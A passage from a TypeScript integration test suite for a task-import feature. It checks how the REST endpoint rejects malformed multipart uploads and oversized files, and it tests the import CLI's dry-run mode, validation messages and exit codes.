      const [{ n }] = await t.ds.query('SELECT count(*)::int AS n FROM task WHERE plan_id = $1', [plan.id]);
      expect(n).toBe(5);
    });

    it('answers malformed multipart bodies with 400 BAD_USER_INPUT in the coded shape', async () => {
      const plan = await newPlan();
      const b = `----io${uniq()}`;
      const bodies: [string, string][] = [
        // The body ends inside a part: no closing boundary.
        [`multipart/form-data; boundary=${b}`, `--${b}\r\nContent-Disposition: form-data; name="planCode"\r\n\r\n${plan.code}\r\n--${b}\r\nContent-Disposition: form-data; name="file"; filename="a.csv"\r\n\r\ncode,title\nX,t`],
        // Part headers that never end.
        [`multipart/form-data; boundary=${b}`, `--${b}\r\nContent-Disposition: form-data; name="file"; filename="a.csv"`],
        // No boundary at all.
        ['multipart/form-data', 'code,title\nX,t\n'],
        // Garbage where the first boundary should be.
        [`multipart/form-data; boundary=${b}`, 'not a multipart body at all'],
      ];
      for (const [contentType, payload] of bodies) {
        const res = await rest('POST', '/import/tasks', ADMIN_TOKEN, { payload, headers: { 'content-type': contentType } });
        const body = JSON.parse(res.body);
        expect([res.statusCode, body.errors[0].extensions.code, body.errors[0].extensions.field]).toEqual([400, 'BAD_USER_INPUT', 'body']);
        expect(body.errors[0].message).toMatch(/multipart/);
      }
      const [{ n }] = await t.ds.query('SELECT count(*)::int AS n FROM task WHERE plan_id = $1', [plan.id]);
      expect(n).toBe(5);
    });

    it('refuses a file over the upload limit with 413', async () => {
      const plan = await newPlan();
      const huge = Buffer.alloc(50 * 1024 * 1024 + 10, 'a');
      const res = await rest('POST', '/import/tasks', ADMIN_TOKEN, multipart({ planCode: plan.code }, { name: 'huge.csv', content: huge }));
      expect(res.statusCode).toBe(413);
      expect(JSON.parse(res.body).errors[0].extensions.code).toBe('BAD_USER_INPUT');
    });
  });

  describe('npm run import (CLI)', () => {
    const cli = join(__dirname, '..', 'dist', 'src', 'cli', 'import.js');

    beforeAll(async () => {
      // Build when the compiled CLI is missing or older than its sources.
      const sources = [join(__dirname, '..', 'src', 'cli', 'import.ts'), ...readdirSync(join(__dirname, '..', 'src', 'import-export')).map((f) => join(__dirname, '..', 'src', 'import-export', f))];
      const built = existsSync(cli) ? statSync(cli).mtimeMs : 0;
      if (sources.some((s) => statSync(s).mtimeMs > built)) await run('npm', ['run', 'build'], { cwd: join(__dirname, '..') });
    }, 180_000);

    const runCli = async (args: string[]) => {
      try {
        const { stdout, stderr } = await run('node', [cli, ...args], { env: { ...process.env, DATABASE_URL: process.env.DATABASE_URL }, timeout: 120_000 });
        return { code: 0, stdout, stderr };
      } catch (err) {
        const e = err as { code: number; stdout: string; stderr: string };
        return { code: e.code, stdout: e.stdout, stderr: e.stderr };
      }
    };

    it('imports a file as the ADMIN "cli", with --dry-run writing nothing and errors exiting 1', async () => {
      const plan = await newPlan();
      const dir = mkdtempSync(join(tmpdir(), 'import-cli-'));
      const file = join(dir, 'tasks.csv');
      const edited = (await exportCsv(plan.code)).replace('IN_PROGRESS,40', 'IN_PROGRESS,70') + 'C-01,,A2,命令行新建,,,,,,,,,\r\n';
      writeFileSync(file, edited);

      const dry = await runCli(['--plan', plan.code, file, '--dry-run']);
      expect(dry).toMatchObject({ code: 0, stdout: expect.stringContaining('created 1, updated 1, unchanged 3 (dry run: nothing written)') });
      expect(await t.ds.query(`SELECT 1 FROM task WHERE plan_id = $1 AND code = 'C-01'`, [plan.id])).toHaveLength(0);

      const real = await runCli(['--plan', plan.code, file]);
      expect(real).toMatchObject({ code: 0, stdout: expect.stringContaining('created 1, updated 1, unchanged 3') });
      const [history] = await t.ds.query(
        `SELECT u.origin, u.actor_name, u.actor_key_id, u.progress_to FROM task_update u JOIN task t ON t.id = u.task_id WHERE t.plan_id = $1 AND t.code = 'K-01'`,
        [plan.id],
      );
      expect(history).toEqual({ origin: 'IMPORT', actor_name: 'cli', actor_key_id: null, progress_to: 70 });

      const badFile = join(dir, 'bad.csv');
      writeFileSync(badFile, 'code,title,progress\nE-01,好,150\n');
      const bad = await runCli(['--plan', plan.code, badFile]);
      expect(bad.code).toBe(1);
      expect(bad.stdout).toContain('row 2, progress: must be an integer from 0 to 100');
      expect(bad.stdout).toContain('nothing was written');

      const usage = await runCli([file]);
      expect(usage.code).toBe(2);
      expect(usage.stderr).toContain('usage: npm run import');
      const unknown = await runCli(['--plan', `no-such-${uniq()}`, file]);
      expect(unknown).toMatchObject({ code: 2, stderr: expect.stringContaining('NOT_FOUND') });
      rmSync(dir, { recursive: true, force: true });
    }, 180_000);
  });
});
